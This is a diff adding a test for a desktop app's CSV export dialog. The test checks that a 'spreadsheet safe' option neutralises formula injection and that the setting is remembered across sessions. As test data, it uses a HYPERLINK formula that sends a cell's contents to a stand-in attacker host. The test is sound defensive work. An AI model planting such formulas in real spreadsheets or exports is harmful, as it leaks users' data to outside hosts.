@@ -207,3 +207,39 @@ def test_an_unwritable_target_is_one_sentence(news_window, qtbot, tmp_path) -> N
     sentence = export_now(qtbot, dialog, "jsonl", out)
     assert sentence.startswith(f"Could not write {out}")
     assert "Traceback" not in sentence and "\n" not in sentence
+
+
+def test_spreadsheet_safe_csv_is_a_remembered_choice(news_window, qtbot, tmp_path) -> None:
+    import csv
+
+    project = news_window.project
+    with project.atomic() as db:
+        db.execute("UPDATE articles SET title = ? WHERE title = ?",
+                   ['=HYPERLINK("http://evil.example/"&A1)', "Budget talks"])
+    dialog = open_export(news_window)
+    box = dialog.spreadsheet_safe
+    dialog.set_format("jsonl")
+    assert not box.isVisibleTo(dialog)
+    dialog.set_format("csv")
+    assert box.isVisibleTo(dialog) and box.isChecked()
+    assert "formula" in box.toolTip()
+
+    def titles(out: Path) -> set[str]:
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            return {row["title"] for row in csv.DictReader(fh)}
+
+    export_now(qtbot, dialog, "csv", tmp_path / "safe.csv")
+    assert "'=HYPERLINK(\"http://evil.example/\"&A1)" in titles(tmp_path / "safe.csv")
+    box.setChecked(False)
+    export_now(qtbot, dialog, "csv", tmp_path / "raw.csv")
+    assert "=HYPERLINK(\"http://evil.example/\"&A1)" in titles(tmp_path / "raw.csv")
+
+    from framedesk.ui.export_dialog import SPREADSHEET_SAFE_KEY
+    from framedesk.ui.settings import AppSettings
+
+    news_window.settings.sync()                # the INI file a later session reads
+    news_window.settings = AppSettings.at(tmp_path / "appsettings")
+    assert news_window.settings.value(SPREADSHEET_SAFE_KEY) in (False, "false")
+    again = ExportDialog(news_window)
+    assert not again.spreadsheet_safe.isChecked()
+    again.deleteLater()
